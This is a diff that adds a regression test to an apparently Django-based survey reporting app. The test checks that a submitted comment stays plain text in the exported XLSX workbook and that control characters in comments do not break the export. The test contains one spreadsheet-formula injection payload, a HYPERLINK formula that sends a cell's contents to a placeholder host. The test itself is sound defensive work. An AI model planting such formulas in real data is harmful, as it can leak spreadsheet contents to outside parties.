@@ -169,6 +169,29 @@ def test_the_skm_report_exports_pdf_and_xlsx(client, world, answered):
     assert {"Profil responden", "Rencana tindak lanjut"} <= set(book.sheetnames)
 
 
+def test_a_hostile_comment_stays_text_and_never_breaks_the_skm_xlsx(client, world):
+    """A control character made the unit's and every parent's SKM workbook a 500; a comment
+    starting with "=" became a live formula."""
+    from openpyxl import load_workbook
+
+    from sigap.surveys.services import survey_submit
+
+    formula = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")'
+    for comment in (formula, "antre\x0b lama\x1b"):
+        survey_submit(
+            service=world.ktp, answers={c: 3 for c in ELEMENT_CODES}, comment=comment,
+            submitted_at=RECENT,
+        )  # fmt: skip
+    client.force_login(world.users["leadership"])
+    for unit in (world.counter_a, world.dukcapil, world.root):
+        xlsx = client.get(f"/skm/laporan/{unit.pk}/{QUARTER}.xlsx")
+        assert xlsx.status_code == 200, unit
+        sheet = load_workbook(io.BytesIO(xlsx.content))["Saran dan masukan"]
+        cells = {c.value: c for row in sheet.iter_rows(min_row=2) for c in row}
+        assert cells[formula].data_type == "s"  # text, not a formula
+        assert "antre lama" in cells
+
+
 def test_a_malformed_report_period_or_format_is_a_404(client, world):
     client.force_login(world.users["head_a"])
     assert client.get(f"/skm/laporan/{world.counter_a.pk}/2025-Q7.pdf").status_code == 404
